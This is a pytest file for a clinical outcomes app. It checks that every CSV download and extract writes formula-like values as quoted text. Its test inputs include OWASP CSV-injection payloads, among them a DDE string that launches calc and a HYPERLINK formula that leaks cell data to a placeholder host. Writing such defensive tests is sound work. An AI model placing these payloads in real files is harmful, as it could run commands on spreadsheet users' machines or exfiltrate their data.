"""Every CSV the product writes is safe to open in a spreadsheet (issue 15, part 1).

A value that starts with `=`, `+`, `-`, `@`, a tab or a carriage return is run by a spreadsheet
as a formula (OWASP, "CSV Injection": owasp.org/www-community/attacks/CSV_Injection). Such text
is written with a leading quote, which shows as text and keeps the value readable; numbers stay
numbers. Checked here on the rule itself, and on the real downloads a user clicks: the
Worklist, the Clinic outcomes tables, the quarantine rows, and the de-identified CSV extract.
"""

from __future__ import annotations

import csv
import io

import duckdb
import pandas as pd
import pytest
from streamlit.runtime.media_file_manager import MediaFileManager

from conftest import NOW, assessment, open_page, patient, phq9_items, session
from pipelines.safe_csv import csv_bytes, neutralise, sql_macro

# The attack strings of OWASP's page and of the attack review that filed the issue.
HOSTILE = ["=cmd|' /C calc'!A0", '=HYPERLINK("http://example.invalid/?leak="&A1,"click")', "+1+1", "-2+3",
           "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]
HARMLESS = ["Dr. Okafor", "Northside", "000417", "a=b", "", "O'Brien"]


@pytest.mark.parametrize("value", HOSTILE)
def test_text_that_a_spreadsheet_would_run_is_written_as_text(value):
    assert neutralise(value) == "'" + value


@pytest.mark.parametrize("value", HARMLESS)
def test_ordinary_text_is_left_as_it_is(value):
    assert neutralise(value) == value


def test_numbers_stay_numbers_and_the_csv_reads_back_to_the_values_shown():
    frame = pd.DataFrame({"clinician": ["=1+2", "Dr. Lee"], "change": [-6, 3], "site": pd.array(["@x", None], "string")})
    rows = list(csv.reader(io.StringIO(csv_bytes(frame).decode("utf-8"))))
    assert rows == [["clinician", "change", "site"], ["'=1+2", "-6", "'@x"], ["Dr. Lee", "3", ""]]


def test_the_duckdb_rule_of_the_csv_extract_agrees_with_the_python_rule():
    con = duckdb.connect()
    con.execute(sql_macro())
    for value in [*HOSTILE, *HARMLESS]:
        assert con.execute("SELECT spreadsheet_safe(?)", [value]).fetchone()[0] == neutralise(value)
    assert con.execute("SELECT spreadsheet_safe(NULL)").fetchone()[0] is None


# --- the real downloads ---------------------------------------------------------------------------

EVIL_CLINICIAN = "=HYPERLINK(\"http://example.invalid\",\"x\")"
EVIL_SITE = "@SUM(1+1)"


@pytest.fixture
def downloads(monkeypatch):
    """Every CSV the page offers, as a click would download it: {file name: text}. Immediate
    downloads are captured as the page registers them; deferred ones (built on click) are
    called."""
    captured, deferred = {}, []
    add, add_deferred = MediaFileManager.add, MediaFileManager.add_deferred

    def record(self, path_or_data, mimetype, coordinates, file_name=None, is_for_static_download=False):
        if file_name and isinstance(path_or_data, bytes):
            captured[file_name] = path_or_data.decode("utf-8")
        return add(self, path_or_data, mimetype, coordinates, file_name, is_for_static_download)

    def record_deferred(self, data_callable, *args, **kwargs):
        deferred.append((data_callable, kwargs.get("file_name") or (args[2] if len(args) > 2 else None)))
        return add_deferred(self, data_callable, *args, **kwargs)

    monkeypatch.setattr(MediaFileManager, "add", record)
    monkeypatch.setattr(MediaFileManager, "add_deferred", record_deferred)

    def all_files() -> dict[str, str]:
        for data_callable, name in deferred:
            if str(name).endswith(".csv"):  # not the one-page report (PDF, HTML: tests/test_report_board.py)
                captured[str(name)] = data_callable().decode("utf-8")
        return captured
    return all_files


@pytest.fixture
def hostile_clinic(clinic):
    """12 patients of one clinician and site whose names are formulas, each with a PHQ-9 baseline
    of 18 and a follow-up of 8 after six infusions (responders), so the Clinic outcomes tables
    show the group; plus one patient row quarantined with a formula as its id."""
    clinic.patients = [patient(pid=f"P{k:02d}", clinician=EVIL_CLINICIAN, site=EVIL_SITE) for k in range(1, 13)]
    clinic.patients.append(patient(pid="=1+1", indication="flu"))  # wrong: quarantined, id kept in the row
    clinic.sessions = [session(f"S{k:02d}{n}", f"2025-01-{n * 2 + 4:02d}T09:00:00", pid=f"P{k:02d}")
                       for k in range(1, 13) for n in range(1, 7)]
    clinic.assessments = [a for k in range(1, 13) for a in (
        assessment(f"A{k:02d}0", "2025-01-06T08:30:00", "PHQ-9", phq9_items(18), pid=f"P{k:02d}"),
        assessment(f"A{k:02d}1", "2025-01-17T08:30:00", "PHQ-9", phq9_items(8, item9=1), pid=f"P{k:02d}"))]
    clinic.load()
    return clinic


def assert_safe(text: str) -> None:
    """No cell of a CSV starts like a formula."""
    for row in csv.reader(io.StringIO(text)):
        for cell in row:
            assert not cell.startswith(("=", "+", "@", "\t", "\r")), (cell, text[:300])
            assert not (cell.startswith("-") and not _is_number(cell)), (cell, text[:300])


def _is_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


def test_the_worklist_csv_writes_a_formula_name_as_text(hostile_clinic, monkeypatch, downloads):
    open_page(hostile_clinic.db, None, monkeypatch, today="2025-01-17")  # the Worklist (default page), in treatment
    files = downloads()
    (worklist,) = [text for name, text in files.items() if name.startswith("worklist")]
    assert "'" + EVIL_CLINICIAN.replace('"', '""') in worklist and "'" + EVIL_SITE in worklist
    assert_safe(worklist)


def test_the_clinic_outcomes_csvs_write_a_formula_name_as_text(hostile_clinic, monkeypatch, downloads):
    app = open_page(hostile_clinic.db, "views/clinic.py", monkeypatch)
    app.session_state["clinic_tab"] = "Clinicians and sites"
    app.run()
    assert not app.exception, [e.value for e in app.exception]
    files = downloads()
    # the clinician's name is in the by-clinician table, as text
    assert "\"'=HYPERLINK(" in files["outcomes_by_clinician.csv"] and "'@SUM(1+1)" in files["outcomes_by_site.csv"]
    for text in files.values():
        assert_safe(text)


def test_the_quarantine_csv_writes_a_formula_id_as_text(hostile_clinic, monkeypatch, downloads):
    app = open_page(hostile_clinic.db, "views/data_quality.py", monkeypatch)
    app.session_state["quality_tab"] = "Quarantine"
    app.run()
    assert not app.exception, [e.value for e in app.exception]
    files = downloads()
    assert "'=1+1" in files["quarantine.csv"]
    for text in files.values():
        assert_safe(text)


def test_the_deidentified_csv_extract_is_spreadsheet_safe(hostile_clinic, tmp_path):
    from pipelines.export import export_deidentified
    from pipelines.settings import Settings

    result = export_deidentified(hostile_clinic.db, tmp_path / "extract", Settings().export, fmt="csv",
                                 environ={"OUTCOMES_EXPORT_KEY": "k" * 32}, now=NOW)
    written = list((tmp_path / "extract").glob("*.csv"))
    assert len(written) == len(result.manifest["tables"]) > 0
    for path in written:
        assert_safe(path.read_text(encoding="utf-8"))
